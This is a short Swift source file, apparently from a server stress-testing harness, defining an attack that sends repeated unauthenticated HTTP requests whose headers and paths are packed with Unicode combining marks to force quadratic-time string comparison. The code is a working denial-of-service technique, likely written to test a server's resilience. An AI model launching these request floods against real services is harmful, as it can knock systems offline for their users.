import NIOCore

/// Attack 2: strings that take quadratic time to compare, in the heads of requests without a key.
struct QuadraticHeaders: Attack {
    let name = "2, quadratic headers"

    /// In bytes; the name and the value of a field have 16 KiB at most.
    private static let sizes = [16_000, 7_000]

    func start(by attacker: Attacker) async throws {
        let requests = Self.sizes.flatMap { size in
            let marks = String.combiningMarks(bytes: size)
            return [
                ByteBuffer.request("GET", "/errors", fields: ["If-None-Match": marks]),
                ByteBuffer.request("GET", "/v1/products", fields: ["Authorization": "Bearer \(marks)"]),
                ByteBuffer.request("GET", "/errors", fields: ["Connection": marks]),
                ByteBuffer.request("GET", "/v1/\(marks)"),
            ]
        }
        attacker.send(requests, every: .milliseconds(6), closing: .whenAnswered)
    }
}
